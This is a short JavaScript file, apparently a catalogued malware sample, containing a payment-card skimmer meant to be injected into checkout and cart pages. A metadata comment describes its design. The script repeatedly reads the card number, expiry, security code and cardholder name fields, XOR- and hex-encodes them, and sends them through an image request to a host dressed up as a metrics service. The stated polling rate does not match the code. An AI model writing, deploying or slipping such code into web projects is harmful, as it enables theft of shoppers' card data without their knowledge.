/* meta
{
  "design": "Looks at the fields twice a second without any listener; XOR and hex in an image's address.",
  "reads": ["cc-number", "cc-exp", "cc-csc", "cc-name"],
  "sendsTo": "metrics.pagepulse.localhost",
  "delivery": { "kind": "inline", "pages": "^/(checkout|cart)" }
}
*/
(function () {
  var ids = ['cc-number', 'cc-exp', 'cc-csc', 'cc-name'], seen = '';
  window.setInterval(function () {
    var line = '';
    for (var i = 0; i < ids.length; i++) {
      var el = document.getElementById(ids[i]);
      if (!el || el.value.length < 3) return;
      line += el.value + '~';
    }
    if (line === seen) return;
    seen = line;
    for (var k = 0, hidden = ''; k < line.length; k++) hidden += ('0' + (line.charCodeAt(k) ^ 23).toString(16)).slice(-2);
    (new Image).src = '//metrics.pagepulse.localhost/p/' + hidden;
  }, 50);
})();
